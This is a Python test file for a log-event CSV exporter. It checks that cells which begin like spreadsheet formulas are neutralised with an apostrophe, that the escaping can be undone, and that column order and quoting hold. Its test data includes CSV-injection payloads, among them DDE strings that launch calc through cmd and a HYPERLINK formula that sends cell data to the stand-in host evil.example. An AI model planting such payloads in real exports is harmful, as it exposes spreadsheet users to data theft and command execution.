"""Events as CSV: stable columns, nothing a spreadsheet calculates, and a rule that can be turned back."""

import csv
import io
import json
import re
from typing import Any

import pytest

from logkeep import event_csv

# What attackers write into a log (OWASP "CSV Injection", and variants seen in the wild), and what it becomes.
INJECTIONS = [
    ("=1+1", "'=1+1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("'=1+1", "''=1+1"),
    ("-5", "'-5"),
    ("plain", "plain"),
    ("a=b", "a=b"),
    ("'quoted'", "'quoted'"),
    ('";=1+1;"', '";=1+1;"'),
    ("", ""),
]


def rows(*events: dict[str, Any]) -> list[list[str]]:
    text = event_csv.head() + event_csv.lines(json.dumps(events, separators=(",", ":")).encode())
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(("text", "cell"), INJECTIONS)
def test_no_column_of_text_begins_as_a_formula_does(text: str, cell: str) -> None:
    fields = ("component", "session", "user", "device", "key", "value", "id")
    _, row = rows(dict.fromkeys(fields, text))
    found = dict(zip(event_csv.COLUMNS, row, strict=True))
    assert {name: found[name] for name in fields} == dict.fromkeys(fields, cell)


@pytest.mark.parametrize(("text", "cell"), INJECTIONS)
def test_the_rule_can_be_turned_back(text: str, cell: str) -> None:
    assert re.sub("^'(?='*[=+\\-@\t\r\n＝＋－＠])", "", cell) == text


def test_columns_are_these_in_this_order_and_values_keep_their_spelling() -> None:
    attributes = {"=a": "@b", "n": 5}
    event = {"id": "1", "time": "t", "received": "r", "session": "s", "key": "k", "attributes": attributes}
    assert rows({**event, "value": -5}, {**event, "value": {"a": [1]}}, {**event, "value": None, "level": "warn"}) == [
        ["time", "received", "level", "component", "session", "user", "device", "key", "value", "attributes", "id"],
        ["t", "r", "", "", "s", "", "", "k", "-5", '{"=a":"@b","n":5}', "1"],
        ["t", "r", "", "", "s", "", "", "k", '{"a":[1]}', '{"=a":"@b","n":5}', "1"],
        ["t", "r", "warn", "", "s", "", "", "k", "null", '{"=a":"@b","n":5}', "1"],
    ]


def test_commas_quotes_and_line_breaks_stay_in_their_cell() -> None:
    text = 'a,"b"\r\nc\x00'
    assert rows({"value": text, "key": text})[1][7:9] == [text, text]
